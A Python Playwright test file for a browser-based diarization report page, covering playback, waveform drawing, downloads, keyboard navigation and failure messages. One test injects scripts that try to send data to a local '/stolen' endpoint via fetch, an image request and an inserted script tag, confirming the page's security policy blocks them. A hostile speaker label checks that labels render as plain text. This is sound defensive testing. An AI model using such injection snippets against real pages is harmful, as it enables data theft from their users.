"""Whether the page does in a browser what it promises, and asks nobody for anything."""

import socket
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.integration.report.conftest import Tab
from tests.integration.report.jobs import diarized, hum, page_of
from tests.unit.producer_tools.report.documents import example
from tests.unit.producer_tools.report.turns import HOSTILE

SECONDS = 30
SEGMENTS = [(0.5, 4.0, "A"), (12.25, 20.0, "B"), (13.0, 14.0, "A"), (21.0, 29.5, HOSTILE)]

pytestmark = pytest.mark.usefixtures("_waves")


@pytest.fixture
def recording(tmp_path: Path) -> Path:
    return hum(tmp_path / "a call #1.wav", SECONDS)


@pytest.fixture
def shown(tab: Tab, tmp_path: Path, recording: Path) -> Page:
    """The page of a job, with its recording."""
    return tab.open(page_of(diarized(SEGMENTS, SECONDS), tmp_path, audio=str(recording)))


def heard(page: Page) -> float:
    return float(page.evaluate("document.getElementById('audio').currentTime"))


def play_past(page: Page, seconds: float) -> None:
    """Return when playback is past this moment."""
    page.evaluate(
        """seconds => new Promise((past) => {
            const look = () => document.getElementById("audio").currentTime > seconds
                ? past() : requestAnimationFrame(look);
            look();
        })""",
        seconds,
    )


def test_a_click_on_a_turn_plays_from_there(shown: Page) -> None:
    shown.locator("#turns tbody tr").nth(1).click()

    play_past(shown, 12.5)
    assert not shown.evaluate("document.getElementById('audio').paused")
    assert 12.25 <= heard(shown) < 20
    expect(shown.locator("#turns tr[aria-current]").first).to_contain_text("0:12.250")


def test_a_click_on_the_lanes_goes_there(shown: Page) -> None:
    lanes = shown.locator("#lanes")
    box = lanes.bounding_box()
    assert box is not None

    lanes.click(position={"x": box["width"] / 2, "y": 5})

    assert heard(shown) == pytest.approx(SECONDS / 2, abs=0.1)


def test_the_waveform_is_drawn(shown: Page) -> None:
    canvas = shown.locator("#wave canvas").first
    canvas.wait_for()

    dots = canvas.evaluate(
        "c => c.getContext('2d').getImageData(0, 0, c.width, c.height).data.filter(x => x).length"
    )

    assert dots > 1000


@pytest.mark.parametrize("embed_at_most_bytes", [10**9, 0])
def test_nothing_is_requested_but_the_recording(
    tab: Tab, recording: Path, tmp_path: Path, embed_at_most_bytes: int
) -> None:
    document = diarized(SEGMENTS, SECONDS)
    wish = {"audio": str(recording), "embed_at_most_bytes": embed_at_most_bytes}
    path = page_of(document, tmp_path, **wish)

    page = tab.open(path)
    page.locator("#turns tbody tr").nth(3).click()
    play_past(page, 21.2)
    page.locator("#zoom-in").click()

    beside = set() if embed_at_most_bytes else {recording.as_uri()}
    assert {url for url in tab.requests if not url.startswith("data:")} == {path.as_uri(), *beside}
    assert tab.complaints == []


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """Somebody who would like to be told."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        yield server


@pytest.mark.parametrize(
    ("directive", "smuggling"),
    [
        ("connect-src", "fetch(url).catch(() => {})"),
        ("img-src", "new Image().src = url"),
        ("script-src-elem", "at('job').after(element('script', { text: 'stolen = 1' }))"),
    ],
)
def test_what_somebody_got_into_the_page_reaches_nobody(
    tab: Tab, tmp_path: Path, listener: socket.socket, directive: str, smuggling: str
) -> None:
    page = tab.open(page_of(example("result-failed"), tmp_path))
    page.evaluate(
        """() => {
            window.refused = new Promise((told) => document.addEventListener(
                "securitypolicyviolation", (event) => told(event.effectiveDirective)));
            window.at = (id) => document.getElementById(id);
            window.element = (name, more) => Object.assign(document.createElement(name), more);
        }"""
    )

    port = listener.getsockname()[1]
    page.evaluate(f"() => {{ const url = 'http://127.0.0.1:{port}/stolen'; {smuggling}; }}")

    assert page.evaluate("window.refused") == directive
    with pytest.raises(BlockingIOError):
        listener.accept()


def test_labels_are_text_whatever_they_look_like(shown: Page) -> None:
    expect(shown.locator("#speakers tbody tr")).to_have_count(3)
    expect(shown.locator("#turns tbody tr").nth(3)).to_contain_text(HOSTILE)
    expect(shown.locator("img")).to_have_count(0)


def test_every_download_holds_what_the_page_was_made_of(tab: Tab, tmp_path: Path) -> None:
    document = diarized(SEGMENTS, SECONDS)
    page = tab.open(page_of(document, tmp_path, without_audio=True))
    kept: dict[str, str] = {}

    for button in page.locator("#downloads button").all():
        with page.expect_download() as download:
            button.click()
        kept[download.value.suggested_filename] = download.value.path().read_text("utf-8")

    stem = document.name
    assert list(kept) == [
        f"{stem}.{suffix}" for suffix in ("json", "rttm", "vtt", "labels.txt", "TextGrid")
    ]
    assert kept[f"{stem}.json"] == document.text
    assert kept[f"{stem}.rttm"].startswith(f"SPEAKER {stem} 1 0.500 3.500 <NA> <NA> A ")
    assert kept[f"{stem}.vtt"].startswith("WEBVTT\n\n00:00:00.500 --> 00:00:04.000\n<v A>A\n")


def test_the_keyboard_reaches_everything(shown: Page) -> None:
    shown.locator("#timeline").focus()
    for key, place in (
        ("ArrowRight", 5),
        ("End", SECONDS),
        ("ArrowLeft", SECONDS - 5),
        ("Home", 0),
    ):
        shown.keyboard.press(key)
        assert heard(shown) == pytest.approx(place, abs=0.1)
    shown.keyboard.press("+")
    expect(shown.locator("#zoom-level")).to_contain_text("2")

    shown.locator("#turns tbody button").first.focus()
    shown.keyboard.press("ArrowDown")
    shown.keyboard.press("ArrowDown")
    shown.keyboard.press("Enter")

    play_past(shown, 13)
    assert shown.locator("#turns tbody button[tabindex='0']").count() == 1


def test_a_failed_job_says_why_and_after_how_many_attempts(tab: Tab, tmp_path: Path) -> None:
    page = tab.open(page_of(example("result-failed", attempt=3), tmp_path))

    failure = page.locator("#failure")
    expect(failure).to_contain_text("audio_not_found")
    expect(failure).to_contain_text("no such object: s3://calls/2026/11/22/0017 #2+ü.flac")
    expect(failure).to_contain_text("Given up after 3 attempts")
    expect(page.locator("#player")).to_be_hidden()
    assert tab.complaints == []


def test_silence_is_no_failure(tab: Tab, tmp_path: Path) -> None:
    page = tab.open(page_of(diarized([], SECONDS), tmp_path, without_audio=True))

    expect(page.locator("#turns-title")).to_have_text("Nobody spoke")
    expect(page.locator("#failure")).to_be_hidden()


def test_a_recording_that_went_away_is_missed_aloud(
    tab: Tab, tmp_path: Path, recording: Path
) -> None:
    path = page_of(
        diarized(SEGMENTS, SECONDS), tmp_path, audio=str(recording), embed_at_most_bytes=0
    )
    recording.unlink()

    page = tab.open(path)

    expect(page.get_by_role("alert")).to_contain_text("is it still at ./a call #1.wav")


def test_the_page_is_dark_where_everything_is(browser: Browser, tmp_path: Path) -> None:
    path = page_of(example("result-failed"), tmp_path)
    papers = []

    for scheme in ("light", "dark"):
        with browser.new_context(color_scheme=scheme) as context:
            page = context.new_page()
            page.goto(path.as_uri())
            papers.append(page.evaluate("getComputedStyle(document.body).backgroundColor"))

    assert papers == ["rgb(255, 255, 255)", "rgb(13, 17, 23)"]


@pytest.mark.slow
def test_two_hours_are_no_burden(tab: Tab, tmp_path: Path) -> None:
    duration = 7200
    recording = hum(tmp_path / "meeting.wav", duration)
    segments = [(2.0 * n, 2.0 * n + 1.9, f"SPEAKER_{n % 6:02}") for n in range(3600)]
    path = page_of(diarized(segments, duration), tmp_path, audio=str(recording))

    page = tab.open(path)
    page.locator("#turns tbody tr").nth(3000).click()
    play_past(page, 6000.5)

    assert path.stat().st_size < 3_000_000
    assert page.evaluate("performance.memory.usedJSHeapSize") < 50_000_000
    assert (
        page.evaluate("JSON.parse(document.getElementById('job').textContent).sound.peaks.length")
        <= 8000
    )
    recording.unlink()  # pytest keeps the directories of three runs
